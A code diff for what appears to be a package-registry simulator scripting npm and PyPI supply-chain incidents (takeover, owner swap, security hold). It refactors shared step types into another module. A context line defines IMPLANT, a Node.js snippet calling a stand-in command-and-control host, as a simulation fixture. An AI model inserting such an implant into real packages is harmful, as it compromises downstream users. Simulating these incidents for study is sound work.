@@ -7,28 +7,16 @@ so that an observer can look between any two steps. The first step of every stor
 state. Between steps an hour passes on a frozen clock. Names and people are invented.
 """
 
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import Iterator
 
+from simulator import identity_stories
 from simulator.npm import Npm
 from simulator.npm_manifest import Person
 from simulator.pypi import PyPI
+from simulator.told import HOUR, PACKAGE, PROJECT, Step, Story
 
-HOUR = 3600.0
-PACKAGE, PROJECT = "paint-lines", "paint-lines-py"
+__all__ = ["HOUR", "PACKAGE", "PROJECT", "STORIES", "Step", "Story"]
 IMPLANT = "require('node:https').get('https://collect.paint-cdn.example/c2');\n"
-
-
-@dataclass(frozen=True, slots=True)
-class Step:
-    """What has just happened, and the targets that are worth a snapshot now."""
-
-    name: str
-    what: str
-    targets: tuple[str, ...]
-
-
-Story = Callable[[Npm, PyPI], Iterator[Step]]
 
 
 def takeover(npm: Npm, pypi: PyPI) -> Iterator[Step]:
@@ -165,7 +153,7 @@ def security_hold(npm: Npm, _pypi: PyPI) -> Iterator[Step]:
 STORIES: dict[str, Story] = {
     story.__name__.replace("_", "-"): story
     for story in (takeover, ghost_version, republish, whole_unpublish, owner_swap, late_file,
-                  yank_and_unyank, quarantine, security_hold)
+                  yank_and_unyank, quarantine, security_hold, *identity_stories.STORIES)
 }
 
 
